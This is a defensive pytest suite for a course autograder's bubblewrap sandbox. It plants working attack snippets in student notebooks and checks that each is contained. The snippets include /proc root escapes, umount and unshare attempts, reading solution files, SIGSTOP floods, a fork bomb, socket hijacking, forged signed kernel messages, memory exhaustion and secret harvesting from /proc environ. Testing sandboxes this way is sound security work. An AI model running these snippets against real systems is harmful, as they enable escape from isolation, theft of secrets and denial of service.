"""A hostile class: escape, interference, persistence, resource and exfiltration attempts, each
graded in one batch between honest students, on both engines.

Every attacker answers exercise 1 with an attack and then ``double``: right when the attack
was contained, wrong (``return x``) when it got through. So an attacker scoring full marks
means "contained", and a lost exercise 1 names the attack that worked. Around them: every
honest student must score full marks, no file may appear outside the submission's scratch,
no process may be left behind, and the batch must end within its budgets.
"""

from __future__ import annotations

import os
import secrets
import shutil
import socket
import threading
import time
from pathlib import Path

import pytest

from grader import grade, samples
from grader.engines.isolation.budget import cgroup_mode
from grader.engines.isolation.sandbox import bubblewrap_problem, bubblewrap_works
from grader.prepare.release import dumps

pytestmark = pytest.mark.slow

CH = "00_mini"
S = samples.SOLUTION
REPO = Path(__file__).resolve().parent.parent
MARK = "escape-" + secrets.token_hex(5)  # in every file name and process an attack leaves
SLEEP_MARK = f"1000.{int(secrets.token_hex(4), 16)}"  # sleep(1) sums its arguments: a unique one
SECRET = "pw-" + secrets.token_hex(8)

if not bubblewrap_works():
    if os.environ.get("CI") == "true":
        raise RuntimeError(f"test_escapes needs the bubblewrap sandbox, which is not usable here: {bubblewrap_problem()}")
    pytest.skip(f"bubblewrap is not usable here ({bubblewrap_problem()}): the escape corpus needs it",
                allow_module_level=True)

#: the end of every attack: ``double`` right only when ``ESCAPED`` stayed empty
TAIL = "\nprint('ESCAPED:', ESCAPED)\n\ndef double(x):\n    return x if ESCAPED else x * 2\n"

# {paths} are filled in per batch: repo, solutions, work(space), subs, tmp (the test's folder),
# host_sock (a Unix socket listening on the host), port (a TCP listener), host_pid (pytest)
ATTACKS = {
    # -- escape to the host ---------------------------------------------------------------------
    "proc_root": """
import os
ESCAPED = []
for pid in os.listdir('/proc'):
    if pid.isdigit():
        for target in ({repo!r} + '/.git', {solutions!r}, {work!r}):
            try:
                if os.listdir(f'/proc/{{pid}}/root' + target):
                    ESCAPED.append((pid, target))
            except OSError:
                pass
""",
    "host_proc": """
import ctypes, os
ESCAPED = []
for line in open('/proc/self/mountinfo'):  # every /proc mounted here, the covered ones too
    fields = line.split()
    point, fstype = fields[4], fields[fields.index('-') + 1]
    if fstype != 'proc':
        continue
    try:
        pids = [p for p in os.listdir(point) if p.isdigit()]
    except OSError:
        continue
    for pid in pids:
        try:
            if b'pytest' in open(os.path.join(point, pid, 'cmdline'), 'rb').read():
                ESCAPED.append(point)
                break
        except OSError:
            pass
libc = ctypes.CDLL(None, use_errno=True)
for point in ('/run', '/run/course-hostproc', '/proc', '/tmp'):
    if libc.umount2(point.encode(), 2) == 0:  # MNT_DETACH
        ESCAPED.append('unmounted ' + point)
""",
    "nested_userns": """
import ctypes
ESCAPED = ctypes.CDLL(None, use_errno=True).unshare(0x10000000) == 0  # CLONE_NEWUSER: caps inside
""",
    "remount": """
import subprocess
ESCAPED = any(subprocess.run(c, capture_output=True).returncode == 0 for c in
              (['mount', '-o', 'remount,rw', '/usr'], ['mount', '-t', 'tmpfs', 'x', '/tmp']))
""",
    # -- solutions and private folders without escaping ------------------------------------------
    "read_solutions": """
import os, glob
ESCAPED = [p for p in ({solutions!r}, {repo!r} + '/solutions') if os.path.exists(p)]
for root in ('/work', '/tmp', '/root', '/home', '/srv', '/opt', '/var', '/mnt'):
    ESCAPED += glob.glob(root + '/**/solutions/00_mini/*.ipynb', recursive=True)[:3]
""",
    "read_git": """
import os, subprocess
ESCAPED = os.path.exists({repo!r} + '/.git')
try:
    ESCAPED = ESCAPED or subprocess.run(['git', '-C', {repo!r}, 'show', 'HEAD:solutions'], capture_output=True).returncode == 0
except OSError:
    pass
""",
    "read_workspace": """
import os
ESCAPED = [p for p in ({work!r}, {work!r} + '/gradebook.db') if os.path.exists(p)]
""",
    "read_neighbour": """
import os
ESCAPED = [p for p in ({subs!r}, {subs!r} + '/a_honest/00_mini/mini.ipynb') if os.path.exists(p)]
""",
    "write_outside": """
import os
ESCAPED = []
for d in ({repo!r} + '/course_utils', {repo!r} + '/grader', {repo!r}, {tmp!r}, {work!r}, '/', '/etc', '/usr'):
    if d == '/tmp' or d.startswith('/tmp/'):
        # inside the sandbox /tmp is a private tmpfs (a checkout under /tmp has its mount points
        # there): writing it proves nothing; the host-side check for marker files is the judge
        continue
    try:
        with open(os.path.join(d, '{mark}-written'), 'w') as f:
            f.write('x')
        ESCAPED.append(d)
    except OSError:
        pass
""",
    # -- neighbours and the coordinator -------------------------------------------------------------
    "neighbour_kernels": """
import os, glob
own = os.path.dirname(os.environ['HOME'])
ESCAPED = [p for p in glob.glob('/tmp/**/kernel-*.json', recursive=True) if not p.startswith(own + '/')]
""",
    "other_servers": """
import os, re
ESCAPED = []
here = os.path.realpath(os.getcwd())
ancestors = set()
path = here
while path != '/':
    ancestors.add(path)
    path = os.path.dirname(path)
for folder in sorted(ancestors):
    try:
        names = os.listdir(folder)
    except OSError:
        continue
    for name in names:  # another fork server's folder, or a log of the grader's
        full = os.path.join(folder, name)
        if full not in ancestors and (re.fullmatch('s[0-9a-f]{{12}}|scratch|k[0-9a-f]{{12}}', name)
                                      or name.endswith('.log')):
            ESCAPED.append(full)
""",
    "signal_everyone": """
import os, signal
mine = {{os.getpid(), os.getppid(), 1}}
for pid in os.listdir('/proc'):
    if pid.isdigit() and int(pid) not in mine:
        try:
            os.kill(int(pid), signal.SIGSTOP)
        except OSError:
            pass
ESCAPED = False
""",
    "stop_own_server": """
import os, signal
os.kill(os.getppid(), signal.SIGSTOP)  # the fork server (a kernel's parent is the sandbox's init)
ESCAPED = False
""",
    "signal_coordinator": """
import os
ESCAPED = False
try:
    os.kill({host_pid}, 0)
    ESCAPED = b'pytest' in open('/proc/{host_pid}/cmdline', 'rb').read()
except OSError:
    pass
""",
    "setsid_daemon": """
import os, subprocess
subprocess.Popen(['sleep', '{sleep}'], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp('sleep', ['sleep', '{sleep}'])
    os._exit(0)
ESCAPED = False
""",
    "fork_bomb": """
import subprocess
procs = []
try:
    for _ in range(400):
        procs.append(subprocess.Popen(['sleep', '{sleep}']))
except OSError:
    pass
ESCAPED = len(procs) >= 400  # no cap on the number of processes
""",
    # -- the fork server's channel -------------------------------------------------------------------
    "server_socket": """
import os, glob, socket
ESCAPED = []
for path in glob.glob('/tmp/**/*.sock', recursive=True) + glob.glob('/tmp/course-fork-*/runtime/*', recursive=True):
    try:
        os.unlink(path)
        s = socket.socket(socket.AF_UNIX); s.bind(path); s.listen(8)
        ESCAPED.append(path)
    except OSError:
        pass
""",
    "dribble": """
import os, socket, stat, struct, time
ESCAPED = False
for fd in map(int, os.listdir('/proc/self/fd')):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            s = socket.socket(fileno=os.dup(fd))
            s.sendall(struct.pack('!I', 1000) + b'{{')  # a reply that never ends
    except OSError:
        pass
time.sleep(40)
""",
    # -- persistence between children ----------------------------------------------------------------
    **{f"persist_{k}": """
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
scratch = os.path.dirname(os.path.expanduser('~'))  # the folder of every child's home
ESCAPED = glob.glob('/dev/shm/{mark}*') + glob.glob('/tmp/{mark}*') + glob.glob('/dev/{mark}*')
ESCAPED += glob.glob(scratch + '/*/{mark}*') + glob.glob(scratch + '/{mark}*')
ESCAPED += ['sysv shm'] if libc.shmget(0xC0FFEE, 0, 0) >= 0 else []
# the kernel's keyrings: a user's keyring outlives its processes (add_key 248, keyctl 250)
for ring in (-4, -5, -3):  # user, user session, session
    if libc.syscall(250, 10, ring, b"user", b"{mark}", 0) >= 0:  # KEYCTL_SEARCH
        ESCAPED.append(f'key in keyring {{ring}}')
for path in ('/dev/shm/{mark}', '/tmp/{mark}', '/dev/{mark}'):
    try:
        open(path, 'w').write('left behind')
    except OSError:
        pass
libc.shmget(0xC0FFEE, 2**20, 0o1666)
# folders their owner may not write or enter: a cleanup that only unlinks cannot empty them
for folder in ('/tmp', '/dev/shm', os.path.expanduser('~'), scratch):
    for mode in (0o500, 0o000, 0o100):
        try:
            os.makedirs(f'{{folder}}/{mark}-{{mode:o}}/inner')
            open(f'{{folder}}/{mark}-{{mode:o}}/inner/note', 'w').write('left behind')
            os.chmod(f'{{folder}}/{mark}-{{mode:o}}/inner', mode)
            os.chmod(f'{{folder}}/{mark}-{{mode:o}}', mode)
        except OSError:
            pass
for ring in (-4, -5, -3):
    libc.syscall(248, b"user", b"{mark}", b"left behind", 11, ring)  # add_key
""" for k in (1, 2, 3, 4)},
    "deep_reply": """
import hashlib, hmac, json, os, socket, stat, struct
ESCAPED = False
deep = b'{{"a":' + b'[' * 200000 + b']' * 200000 + b'}}'  # json.loads: RecursionError
for fd in map(int, os.listdir('/proc/self/fd')):  # a fork child's channel: one whole frame of it
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode) and socket.socket(fileno=os.dup(fd)).type == socket.SOCK_STREAM:
            socket.socket(fileno=os.dup(fd)).sendall(struct.pack('!I', len(deep)) + deep)
    except OSError:
        pass
try:  # a kernel's: a display_data message the kernel signed, with that content
    kernel = get_ipython().kernel
    session, parent = kernel.session, kernel.get_parent()
    header = json.dumps(session.msg_header('display_data'), default=str).encode()
    parts = [header, json.dumps(parent.get('header', {{}}), default=str).encode(), b'{{}}', deep]
    signature = hmac.new(session.key, digestmod=hashlib.sha256)
    for p in parts:
        signature.update(p)
    kernel.iopub_socket.send_multipart([b'display_data', b'<IDS|MSG>', signature.hexdigest().encode(), *parts])
except Exception as exc:
    print('no kernel channel:', type(exc).__name__)
""",
    # -- resources -----------------------------------------------------------------------------------
    "memory_split": """
import os, subprocess, sys, time
code = 'b = bytearray(700 * 2**20); b[::4096] = bytes(len(b[::4096])); print("held", flush=True); import time; time.sleep(8)'
procs = [subprocess.Popen([sys.executable, '-c', code], stdout=subprocess.PIPE) for _ in range(4)]
for p in procs:
    p.stdout.readline()
time.sleep(1)  # an OOM-killed process may still look alive for a moment: count what is resident after it
def resident(pid):
    try:
        return int(open(f'/proc/{{pid}}/statm').read().split()[1]) * os.sysconf('SC_PAGE_SIZE')
    except (OSError, ValueError, IndexError):
        return 0
held = sum(resident(p.pid) for p in procs if p.poll() is None)
for p in procs:
    p.kill()
ESCAPED = held > 2048 * 2**20  # more than the memory cap, split over processes
""",
    "tmpfs_fill": """
import os
ESCAPED = False
for folder in ('/tmp', '/dev/shm'):
    written = 0
    try:
        with open(os.path.join(folder, 'fill'), 'wb') as f:
            for _ in range(3 * 1024):
                f.write(b'x' * 2**20)
                written += 2**20
    except OSError:
        pass
    os.unlink(os.path.join(folder, 'fill'))
    ESCAPED = ESCAPED or written >= 2 * 2**30
""",
    "output_flood": """
import sys
for _ in range(300):
    sys.stdout.write('y' * 2**20)
ESCAPED = False
""",
    # -- secrets and exfiltration ---------------------------------------------------------------------
    "secrets_env": """
import os
ESCAPED = [k for k, v in os.environ.items() if '{secret}' in v]
for pid in os.listdir('/proc'):
    for name in ('environ', 'cmdline'):
        try:
            if b'{secret}' in open(f'/proc/{{pid}}/{{name}}', 'rb').read():
                ESCAPED.append((pid, name))
        except OSError:
            pass
""",
    "host_unix_socket": """
import socket
ESCAPED = []
for address in ({host_sock!r}, '\\0{mark}-abstract-{engine}'):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(2)
    try:
        s.connect(address)
        s.sendall(b'solutions')
        ESCAPED.append(address)
    except OSError:
        pass
""",
    "network": """
import socket
ESCAPED = False
try:
    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'solutions')
    ESCAPED = True
except OSError:
    pass
""",
}

HONEST = ("a_honest", "m_honest", "z_honest")


class Listener:
    """A Unix socket (path and abstract) and a TCP port on the host; counts connections."""

    def __init__(self, folder: Path, engine: str):
        self.connections = 0
        self.path = str(folder / "host-listener.sock")
        self.socks = []
        for family, address in ((socket.AF_UNIX, self.path), (socket.AF_UNIX, f"\0{MARK}-abstract-{engine}"),
                                (socket.AF_INET, ("127.0.0.1", 0))):
            s = socket.socket(family)
            s.bind(address)
            s.listen(16)
            self.socks.append(s)
            threading.Thread(target=self._accept, args=(s,), daemon=True).start()
        self.port = self.socks[-1].getsockname()[1]

    def _accept(self, s):
        while True:
            try:
                conn, _ = s.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()

    def close(self):
        for s in self.socks:
            try:
                s.shutdown(socket.SHUT_RDWR)  # wakes the accepting thread
            except OSError:
                pass
            s.close()


def marked_processes() -> list[str]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmdline = open(f"/proc/{entry}/cmdline", "rb").read()
                state = open(f"/proc/{entry}/stat").read().rsplit(")", 1)[1].split()[0]
            except OSError:
                continue
            if (SLEEP_MARK.encode() in cmdline or MARK.encode() in cmdline) and state != "Z":
                found.append(f"{entry}: {cmdline!r}")
    return found


def marked_files(roots) -> list[str]:
    found = []
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in (".git", ".venv", "node_modules")]
            found += [os.path.join(dirpath, f) for f in filenames if MARK in f]
    return found


@pytest.fixture(scope="module", params=["kernel", "fork"])
def batch(request, tmp_path_factory):
    engine = request.param
    tmp = tmp_path_factory.mktemp(f"escapes-{engine}")
    solutions = tmp / "solutions"
    shutil.copytree(REPO / "tests" / "fixtures" / "course" / "solutions", solutions)
    subs, work = tmp / "subs", tmp / "work"
    listener = Listener(tmp, engine)
    values = dict(repo=str(REPO), solutions=str(solutions), work=str(work), subs=str(subs), tmp=str(tmp),
                  host_sock=listener.path, port=listener.port, host_pid=os.getpid(), mark=MARK, sleep=SLEEP_MARK,
                  secret=SECRET, engine=engine)
    make = lambda answer: samples.make_submission(CH, {"ex1_double": answer, "ex2_row_sums": S}, solutions_dir=solutions)  # noqa: E731
    for name in HONEST:
        (subs / name / CH).mkdir(parents=True)
        (subs / name / CH / "mini.ipynb").write_text(dumps(make(S)))
    for name, code in ATTACKS.items():
        (subs / name / CH).mkdir(parents=True)
        (subs / name / CH / "mini.ipynb").write_text(dumps(make(code.format(**values) + TAIL)))
    os.environ["COURSE_TEST_DB_PASSWORD"] = SECRET  # a secret in the coordinator's environment
    started = time.monotonic()
    try:
        reports = grade.main(subs, work, jobs=4, cell_timeout=20, solutions_dir=solutions, engine=engine)
    finally:
        del os.environ["COURSE_TEST_DB_PASSWORD"]
        elapsed = time.monotonic() - started
        time.sleep(1)
        left = marked_processes()
        listener.close()
    return {"reports": {r.student: r for r in reports}, "tmp": tmp, "left": left, "elapsed": elapsed,
            "connections": listener.connections, "engine": engine}


def _tests(report):
    return [(t["grade_id"], t["status"], t["reason"]) for t in report.tests]


@pytest.mark.parametrize("name", HONEST)
def test_every_honest_student_scores_full_marks(batch, name):
    r = batch["reports"][name]
    assert (r.status, r.score) == ("graded", 10), _tests(r)


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_the_attack_is_contained(batch, name):
    """Full marks: the attack found nothing to exploit (it answers wrong when it got through)."""
    r = batch["reports"][name]
    t1 = next(t for t in r.tests if t["grade_id"] == "test_ex1_double")
    if name in ("dribble", "deep_reply"):
        # it stalls (or, in a kernel, garbles) its own channel: a cell of its own is lost -- its own, or the
        # one running when the coordinator next reads the channel, a later one on a busy machine
        assert any(t["status"] != "passed" for t in r.tests), _tests(r)
        return
    if name in ("signal_everyone",) and t1["status"] != "passed":
        # stopping every process it can see stops its own kernel or fork server: its own loss
        return
    assert t1["status"] == "passed", (batch["engine"], _tests(r))


def test_nothing_is_written_outside_the_scratch(batch):
    assert not marked_files([REPO, batch["tmp"], "/tmp"]), "an attack wrote outside its sandbox"


def test_no_process_is_left_behind(batch):
    assert not batch["left"], batch["left"]


def test_nothing_outside_was_reached(batch):
    assert batch["connections"] == 0


def test_the_batch_ends_within_its_budgets(batch):
    # 30 submissions at 4 jobs; the dribbler is held at most cell timeout + grace + 10 s
    assert batch["elapsed"] < 400, batch["elapsed"]


def test_this_machine_gives_a_cgroup_budget_or_says_it_does_not():
    if os.environ.get("CI") == "true" and Path("/sys/fs/cgroup/memory").is_dir():
        assert cgroup_mode() is not None
